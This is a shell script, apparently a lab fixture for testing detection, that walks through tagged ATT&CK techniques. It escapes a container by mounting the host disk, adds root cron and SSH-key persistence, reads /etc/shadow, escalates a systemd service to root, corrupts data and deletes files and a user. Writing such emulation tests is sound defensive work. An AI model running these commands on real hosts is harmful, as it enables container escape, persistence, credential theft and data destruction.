#!/bin/sh
# Runs in a container that was given the block device of the host's file system.
echo "@T1611 mounts the host's disk and changes root into it"
mount -t ext4 /dev/hostdisk /mnt
# The host tree of the lab has no shell, so the container's own programs are laid over
# an empty directory of it; nothing of this reaches the disk.
mount --bind /bin /mnt/mnt
sleep 0.3
PATH=/mnt chroot /mnt /mnt/sh -c '
  echo "@T1053.003 cron job changed"
  echo "@reboot root /usr/local/bin/.x" >> /etc/cron.d/backup
  cat /etc/shadow /root/.ssh/authorized_keys > /tmp/.c
  rm /tmp/.c
  sleep 0.3
  echo "@T1098.004 key added"
  echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEludHJ1ZGVyTm90UmVhbDAwMDAwMDAwMDAwMDAw intruder" >> /root/.ssh/authorized_keys
  echo "@T1543.002 systemd unit changed"
  sed -i s/www-data/root/ /etc/systemd/system/app.service
  cd /srv
  sleep 0.3
  echo "@T1565.001 stored data changed"
  echo "new terms" >> data/shared-terms.txt
  printf bad | dd of=data/history.log.gz bs=1 seek=40 conv=notrunc
  printf "\0\0\0\0" | dd of=./data/tool.bin bs=1 seek=120 conv=notrunc
  sed -i /^sato/d /etc/passwd
  sleep 0.2
  echo "@T1485 data removed"
  cd /srv/data/../www
  rm -f ../data/q4-plan.txt
  mv keep.txt ../keep.moved
  rmdir /opt
  truncate -s 0 robots.txt
  ln /etc/hostname /srv/www/host.txt
'
umount /mnt/mnt
umount /mnt
sleep 0.2
echo "@end"
